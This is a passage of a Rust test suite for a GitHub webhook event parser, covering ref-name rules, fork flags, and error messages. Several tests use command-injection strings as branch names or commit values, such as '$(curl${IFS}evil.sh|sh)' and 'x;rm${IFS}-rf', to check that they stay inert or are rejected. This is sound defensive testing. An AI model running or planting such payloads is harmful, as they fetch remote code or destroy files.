        });
        let t = parse("delete", &v).unwrap();
        assert_eq!(t.branch().unwrap().as_str(), "feature/x");
        assert_eq!(t.kind(), "branch_deleted");
        v["ref_type"] = json!("tag");
        assert!(matches!(
            parse("delete", &v).unwrap(),
            Trigger::Ignored {
                reason: IgnoredReason::TagDeleted { .. }
            }
        ));
    }

    #[test]
    fn pull_request_actions_map_to_triggers() {
        for (action, kind) in [
            ("opened", "pull_request"),
            ("synchronize", "pull_request"),
            ("reopened", "pull_request"),
            ("closed", "pull_request_closed"),
            ("labeled", "ignored"),
            ("edited", "ignored"),
        ] {
            assert_eq!(
                parse("pull_request", &pr(action)).unwrap().kind(),
                kind,
                "{action}"
            );
        }
    }

    #[test]
    fn closed_pull_request_reports_whether_it_was_merged() {
        let mut v = pr("closed");
        let Trigger::PullRequestClosed { merged, pr } = parse("pull_request", &v).unwrap() else {
            panic!("expected closed");
        };
        assert!(!merged);
        assert!(!pr.from_fork);
        assert_eq!(pr.number, 7);
        assert_eq!(pr.base_branch.as_str(), "main");
        v["pull_request"]["merged"] = json!(true);
        assert!(matches!(
            parse("pull_request", &v).unwrap(),
            Trigger::PullRequestClosed { merged: true, .. }
        ));
    }

    #[test]
    fn pull_request_from_a_fork_or_deleted_fork_is_flagged() {
        let mut v = pr("opened");
        v["pull_request"]["head"]["repo"]["full_name"] = json!("mallory/octo-repo");
        let Trigger::PullRequest { pr, .. } = parse("pull_request", &v).unwrap() else {
            panic!("expected a pull request");
        };
        assert!(pr.from_fork);
        v["pull_request"]["head"]["repo"] = serde_json::Value::Null;
        let Trigger::PullRequest { pr, .. } = parse("pull_request", &v).unwrap() else {
            panic!("expected a pull request");
        };
        assert!(pr.from_fork);
        assert_eq!(pr.head_repository, None);
    }

    #[test]
    fn schedule_and_dispatch_are_parsed() {
        let t = parse("schedule", &json!({"schedule": "0 */4 * * *"})).unwrap();
        assert_eq!(
            t,
            Trigger::Schedule {
                cron: Some("0 */4 * * *".into()),
                repository: None
            }
        );
        let t = parse(
            "workflow_dispatch",
            &json!({"ref": "refs/heads/main", "inputs": {"name": "demo", "force": true, "n": 3, "x": null},
                    "repository": {"full_name": "octo-org/octo-repo"}}),
        )
        .unwrap();
        let Trigger::Dispatch {
            inputs, git_ref, ..
        } = t
        else {
            panic!("expected dispatch")
        };
        assert_eq!(git_ref, "refs/heads/main");
        assert_eq!(
            inputs.into_iter().collect::<Vec<_>>(),
            vec![
                ("force".into(), "true".into()),
                ("n".into(), "3".into()),
                ("name".into(), "demo".into())
            ]
        );
    }

    #[test]
    fn unknown_events_are_ignored_without_reading_the_payload() {
        let t = parse_event("issues", b"not json at all").unwrap();
        assert!(matches!(
            t,
            Trigger::Ignored {
                reason: IgnoredReason::UnsupportedEvent { .. }
            }
        ));
        assert_eq!(
            parse_event("pull_request_target", b"{}").unwrap().kind(),
            "ignored"
        );
    }

    #[test]
    fn invalid_json_reports_line_and_column() {
        let err = parse_event("push", b"{\n  \"ref\": \"refs/heads/x\",\n  oops\n}").unwrap_err();
        let EventError::InvalidJson { line, column, .. } = &err else {
            panic!("{err:?}")
        };
        assert_eq!((*line, *column), (3, 3));
        assert!(
            err.to_string()
                .starts_with("`push` payload is not valid JSON at line 3, column 3")
        );
        assert!(matches!(
            parse_event("push", b"{} {}").unwrap_err(),
            EventError::InvalidJson { .. }
        ));
        assert!(matches!(
            parse_event("push", b"").unwrap_err(),
            EventError::InvalidJson { .. }
        ));
    }

    #[test]
    fn missing_fields_name_their_json_path() {
        let mut v = pr("opened");
        v["pull_request"]["head"]
            .as_object_mut()
            .unwrap()
            .remove("ref");
        let err = parse("pull_request", &v).unwrap_err();
        assert_eq!(
            err,
            EventError::MissingField {
                event: "pull_request".into(),
                path: "pull_request.head.ref".into()
            }
        );
        assert_eq!(
            err.to_string(),
            "`pull_request` payload has no `pull_request.head.ref`: pass the complete payload GitHub sent for this event"
        );
    }

    #[test]
    fn wrong_types_name_their_json_path() {
        let mut v = pr("opened");
        v["pull_request"]["head"]["ref"] = json!(42);
        let err = parse("pull_request", &v).unwrap_err();
        let EventError::WrongType { path, message, .. } = &err else {
            panic!("{err:?}")
        };
        assert_eq!(path, "pull_request.head.ref");
        assert!(message.contains("invalid type: integer `42`"), "{message}");
        let err = parse_event("push", b"[1, 2]").unwrap_err();
        assert_eq!(err.kind(), "wrong_type");
    }

    #[test]
    fn hostile_but_legal_branch_names_survive_as_data() {
        for name in [
            "$(curl${IFS}evil.sh|sh)",
            "`id`",
            "a\"b'c",
            "x;rm${IFS}-rf",
            "<script>",
            "a|b",
            "émoji-🚀",
        ] {
            let t = parse("push", &push(&format!("refs/heads/{name}"))).unwrap();
            assert_eq!(t.branch().unwrap().as_str(), name);
        }
    }

    #[test]
    fn illegal_ref_names_are_refused_with_the_rule_they_break() {
        for (name, problem) in [
            ("a\nb", RefProblem::ControlCharacter),
            ("a\tb", RefProblem::ControlCharacter),
            ("a b", RefProblem::ForbiddenCharacter { character: ' ' }),
            (
                "$(curl evil)",
                RefProblem::ForbiddenCharacter { character: ' ' },
            ),
            ("a~1", RefProblem::ForbiddenCharacter { character: '~' }),
            ("a..b", RefProblem::DoubleDot),
            ("a@{1}", RefProblem::AtBrace),
            ("@", RefProblem::LoneAt),
            ("a//b", RefProblem::BadSlash),
            ("a/", RefProblem::BadSlash),
            ("a/.b", RefProblem::ComponentStartsWithDot),
            ("a.lock/b", RefProblem::ComponentEndsWithLock),
            ("a.", RefProblem::EndsWithDot),
            ("-a", RefProblem::StartsWithDash),
            ("", RefProblem::Empty),
        ] {
            assert_eq!(check_ref_name(name), Err(problem), "{name:?}");
        }
        let long = "a".repeat(256);
        assert_eq!(check_ref_name(&long), Err(RefProblem::TooLong { len: 256 }));
        assert!(check_ref_name(&"a".repeat(255)).is_ok());
    }

    #[test]
    fn newline_in_a_pushed_branch_is_an_invalid_ref_error() {
        let err = parse("push", &push("refs/heads/feature/x\ny")).unwrap_err();
        assert_eq!(err.kind(), "invalid_ref");
        assert_eq!(
            err.to_string(),
            "`push` payload field `ref` is not a legal branch name (`feature/x\\ny`): it contains a control character (newline, tab, …); git forbids them"
        );
    }

    #[test]
    fn repository_names_must_be_owner_slash_name() {
        for bad in ["noslash", "a/b/c", "/x", "x/", "own er/x", "o/..", "o/$(x)"] {
            assert!(Repository::parse(bad).is_none(), "{bad}");
            let mut v = push("refs/heads/x");
            v["repository"]["full_name"] = json!(bad);
            assert_eq!(
                parse("push", &v).unwrap_err().kind(),
                "invalid_repository",
                "{bad}"
            );
        }
        assert!(Repository::parse("my-org/my.repo_1").is_some());
    }

    #[test]
    fn commit_must_be_a_full_sha() {
        let mut v = push("refs/heads/x");
        v["after"] = json!("HEAD; curl x");
        assert_eq!(parse("push", &v).unwrap_err().kind(), "invalid_commit");
    }

    #[test]
    fn shown_values_are_escaped_and_cut() {
        assert_eq!(shown("a\nb"), "a\\nb");
        assert_eq!(shown(&"x".repeat(100)).chars().count(), SHOWN_CHARS + 1);
    }

    #[test]
    fn triggers_serialize_with_a_kind_tag() {
        let t = parse("push", &push("refs/heads/feature/x")).unwrap();
        assert_eq!(
            serde_json::to_value(&t).unwrap(),
            json!({"kind": "push", "repository": "octo-org/octo-repo", "branch": "feature/x",
                   "commit": SHA, "actor": "octocat", "default_branch": "main"})
        );
        let t = parse("push", &push("refs/tags/v1")).unwrap();
        assert_eq!(
            serde_json::to_value(&t).unwrap(),
            json!({"kind": "ignored", "reason": {"kind": "tag_push", "tag": "v1"}})
        );
    }
}
